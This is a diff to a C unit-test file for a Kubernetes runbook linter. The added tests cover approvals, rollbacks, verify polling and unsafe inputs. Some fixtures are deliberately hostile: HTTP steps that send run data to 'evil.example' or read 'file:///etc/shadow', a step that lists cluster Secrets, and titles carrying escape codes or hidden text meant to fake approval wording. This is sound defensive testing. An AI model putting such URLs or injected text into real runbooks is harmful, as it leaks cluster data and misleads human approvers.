@@ -154,6 +154,59 @@ TEST(the_good_one_is_clean_and_its_program_is_named)
 	"      idempotency_key: once\n      op: {k8s.delete: {ref: v1 ConfigMap web/x}}\n"         \
 	"    " VERIFY
 
+/* Of low risk, without an approval, and taken back by words. */
+#define SHAM                                                                                       \
+	"- id: hit\n  title: a cache\n  kind: mutate\n  mutates: true\n  risk: low\n"              \
+	"  idempotency_key: once\n  op: {k8s.restart: {ref: apps/v1 StatefulSet pay/db}}\n" VERIFY \
+	"  rollback:\n    steps:\n"
+#define SAYS "    - {id: undo, title: t, kind: note, mutates: false, note: nothing}\n"
+#define RESTARTS_AGAIN                                                                             \
+	"    - id: anew\n      title: t\n      kind: mutate\n      mutates: true\n      risk: "    \
+	"low\n"                                                                                    \
+	"      idempotency_key: once\n      op: {k8s.restart: {ref: apps/v1 StatefulSet "          \
+	"pay/db}}\n"                                                                               \
+	"    " VERIFY
+
+/* Behind the approval. */
+#define LATER                                                                                      \
+	"- id: later\n  title: t\n  kind: ask\n  mutates: false\n  register: later\n"              \
+	"  ask: {prompt: which, type: string, expires: 1h}\n"
+#define SET(name, value)                                                                           \
+	"- id: set\n  title: t\n  kind: mutate\n  mutates: true\n  risk: medium\n"                 \
+	"  idempotency_key: once\n  rollback: {inverse: auto}\n"                                   \
+	"  op: {k8s.patch: {ref: v1 ConfigMap web/" name ", patch: {data: {a: \"" value            \
+	"\"}}}}\n" VERIFY
+#define ASKS LATER SET("x", "${later.value}")
+#define EACH_ASKED                                                                                 \
+	LATER "- id: each\n  title: t\n  kind: foreach\n  mutates: false\n  items: later.value\n"  \
+	      "  as: one\n  parallel: 1\n  max_fail: 0\n  do:\n"                                   \
+	      "  - {id: set, title: t, kind: mutate, mutates: true, risk: medium, "                \
+	      "idempotency_key: once, rollback: {inverse: auto}, op: {k8s.patch: {ref: \"v1 "      \
+	      "ConfigMap web/${one}\", patch: {data: {a: b}}}}, verify: {expr: drops.count == 0 "  \
+	      "and agents.ready, poll: 5s, within: 5m, stable: 3}}\n"
+
+#define NOTED                                                                                      \
+	"- {id: said, title: t, kind: note, mutates: false, note: so, register: said}\n"           \
+	"- {id: set, title: t, kind: mutate, mutates: true, risk: medium, "                        \
+	"idempotency_key: once, rollback: {inverse: auto}, op: {k8s.patch: {ref: v1 ConfigMap "    \
+	"web/x, patch: {data: {a: b}}}}, verify: {expr: drops.count == 0 and agents.ready and "    \
+	"known(said), poll: 5s, within: 5m, stable: 3}}\n"
+
+/* Registered for one item, asked for behind all. */
+#define WITHIN                                                                                     \
+	"- {id: each, title: t, kind: foreach, mutates: false, items: drops.rows, parallel: 1, "   \
+	"max_fail: 0, do: [{id: one, title: t, kind: note, mutates: false, note: so, register: "   \
+	"one}, {id: two, title: \"${one.says}\", kind: note, mutates: false, note: so}]}\n"        \
+	"- {id: behind, title: \"${one.says}\", kind: note, mutates: false, note: so}\n"
+#define PATCH_OF(id, name)                                                                         \
+	"id: " id ", title: t, kind: mutate, mutates: true, risk: medium, idempotency_key: once, " \
+	"op: {k8s.patch: {ref: \"v1 ConfigMap web/" name "\", patch: {data: {a: b}}}}, verify: {"  \
+	"expr: drops.count == 0 and agents.ready, poll: 5s, within: 5m, stable: 3}"
+#define UNDONE_FOR_EACH                                                                            \
+	"- {id: each, title: t, kind: foreach, mutates: false, items: drops.rows, parallel: 1, "   \
+	"max_fail: 0, do: [{" PATCH_OF("put", "${item.name}") ", rollback: {steps: [{" PATCH_OF(   \
+		"back", "${item.name}") "}]}}]}\n"
+
 #define AGENTS    "kind: query\n  mutates: false\n  query: {source: agents, limit: 100}"
 #define HTTP(url) "kind: http\n  mutates: false\n  http: {url: \"" url "\", output: 1KiB}"
 
@@ -198,6 +251,10 @@ static const struct {
 	{"RBL-010", "drops in ${params.namespace}", "drops in ${params.namespase}", NULL},
 	{"RBL-010", "drops in ${params.namespace}", "drops in ${agents.count}", NULL},
 	{"RBL-010", "when: drops.count > 0, cause", "when: nothing.count > 0, cause", NULL},
+	{"RBL-010", "label: \"${params.namespace}\"",
+	 "label: \"${params.namespace}${drops.count}\"", NULL},
+	{"RBL-010", "- id: choose\n", WITHIN "- id: choose\n", NULL},
+	{"RBL-010", "- id: fix\n", UNDONE_FOR_EACH "- id: fix\n", NULL},
 	{"RBL-011", "source: agents", "source: tea-leaves", NULL},
 	{"RBL-011", "{namespace: \"${vars.label}\"}", "{verdit: DROPPED}", NULL},
 	{"RBL-011", "{namespace: \"${vars.label}\"}", "{verdict: droped}", NULL},
@@ -233,6 +290,14 @@ static const struct {
 	{"RBL-016", "drops.count == 0 and agents.ready", "drops.count == 0", NULL},
 	{"RBL-016", "sources: 2", "sources: 1", NULL},
 	{"RBL-016", "stable: 3", "stable: 1", NULL},
+	{"RBL-016", "poll: 5s, within: 5m, stable: 3", "poll: 10m, within: 1m, stable: 100", NULL},
+	{"RBL-016", "poll: 5s, within: 5m, stable: 3", "poll: 3m, within: 5m, stable: 3", NULL},
+	{"RBL-016", "- id: fix\n", NOTED "- id: fix\n", NULL},
+	{"RBL-010", "agents.ready, poll", "agents.redy > 0, poll", NULL},
+	{"RBL-010", "when: drops.count > 0, cause", "when: drops.cuont > 0, cause", NULL},
+	{"RBL-011", AGENTS, "kind: check\n  mutates: false\n  check: ZZZ-999", "RBL-010"},
+	{"RBL-011", AGENTS, "kind: call\n  mutates: false\n  call: {runbook: not-there}",
+	 "RBL-010 RBL-016"},
 	{"RBL-017", "  rollback: {inverse: auto}\n", "", NULL},
 	{"RBL-017", "{inverse: auto}", "{inverse: none}", NULL},
 	{"RBL-017", "{inverse: auto}", "{}", NULL},
@@ -244,6 +309,8 @@ static const struct {
 	{"RBL-019", "title: may we?", "title: may we?\n  when: drops.count > 5", NULL},
 	{"RBL-019", "title: may we?", "title: may we?\n  on_error: {action: continue}", NULL},
 	{"RBL-019", "- id: choose\n", UNDONE_BY_A_DELETION "- id: choose\n", NULL},
+	{"RBL-019", "- id: choose\n", SHAM RESTARTS_AGAIN "- id: choose\n", NULL},
+	{"RBL-017", "- id: choose\n", SHAM SAYS "- id: choose\n", "RBL-019"},
 	{"RBL-020", "groups: [oncall, \"team:mesh\"]", "groups: []", NULL},
 	{"RBL-020", "\"team:mesh\"", "\"${params.unit}\"", NULL},
 	{"RBL-020", "\"team:mesh\"", "$USER", NULL},
@@ -294,15 +361,21 @@ static const struct {
 	{"RBL-030", "${params.namespace}/x", "../${params.namespace}/x", NULL},
 	{"RBL-030", "${params.namespace}/x", "a/${params.namespace}/x", NULL},
 	{"RBL-030", "kind: query\n  mutates: false\n  query: {source: agents, limit: 100}",
-	 "kind: k8s\n  mutates: false\n  k8s: {list: v1 Secret, limit: 5}", NULL},
-	{"RBL-031", AGENTS, HTTP("http://evil.example/?x=${drops.count}"), NULL},
-	{"RBL-031", AGENTS, HTTP("http://a.b.svc@evil.example/"), NULL},
-	{"RBL-031", AGENTS, HTTP("http://${params.unit}.svc/"), NULL},
-	{"RBL-031", AGENTS, HTTP("http://evil.example/a.svc"), NULL},
-	{"RBL-031", AGENTS, HTTP("file:///etc/shadow"), NULL},
+	 "kind: k8s\n  mutates: false\n  k8s: {list: v1 Secret, limit: 5}", "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("http://evil.example/?x=${drops.count}"), "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("http://a.b.svc@evil.example/"), "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("http://${params.unit}.svc/"), "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("http://evil.example/a.svc"), "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("file:///etc/shadow"), "RBL-010"},
 	{"RBL-032", "title: agents", "title: \"agents\\e[2J\"", NULL},
 	{"RBL-032", "title: agents", "title: \"agents \\u202e gniht on\"", NULL},
+	{"RBL-033", "- id: fix\n", ASKS "- id: fix\n", NULL},
+	{"RBL-033", "- id: fix\n", EACH_ASKED "- id: fix\n", NULL},
 	{"RBL-032", "title: agents", "title: \"agents \\u0085\"", NULL},
+	{"RBL-032", "title: agents", "title: \"agents\\nan approval is for plan 0\"", NULL},
+	{"RBL-032", "title: agents", "title: \"agents                            way back yes\"",
+	 NULL},
+	{"RBL-032", "{inverse: auto}", "{inverse: none, reason: \"r\\n  x   way back yes\"}", NULL},
 };
 
 static bool expected(const char *also, const char *id)
@@ -597,11 +670,28 @@ TEST(a_service_of_the_cluster_may_be_asked)
 		const struct finding *f;
 
 		lint(&r, text, NULL, 0);
-		f = first_other(&r, NULL);
+		f = first_other(&r, "RBL-010"); /* agents.ready is of another kind now */
 		if (f)
 			fail_msg("%s: %s", urls[i], f->message);
 		report_release(&r);
 	}
+}
+
+/* Asked for when it is known: behind the question, or for each item. */
+TEST(what_is_known_when_it_is_agreed_to_may_be_done)
+{
+	auto_free char *text = edited("- id: agree\n", LATER "- id: agree\n");
+	const char *at = strstr(text, "- id: fix\n");
+	auto_free char *then =
+		xasprintf("%.*s" SET("x", "${later.value}") "%s", (int)(at - text), text, at);
+	struct report r;
+	const struct finding *f;
+
+	lint(&r, then, NULL, 0);
+	f = first_fail(&r, "RBL-033");
+	if (f)
+		fail_msg("%s", f->message);
+	report_release(&r);
 }
 
 TEST(nested_steps_are_looked_at_too)
@@ -635,6 +725,7 @@ int main(void)
 		cmocka_unit_test(a_fixture_is_decoded_and_its_unknown_fields_are_named),
 		cmocka_unit_test(too_many_steps_and_too_deep_ones_are_no_runbook),
 		cmocka_unit_test(a_service_of_the_cluster_may_be_asked),
+		cmocka_unit_test(what_is_known_when_it_is_agreed_to_may_be_done),
 		cmocka_unit_test(nested_steps_are_looked_at_too),
 	};
 
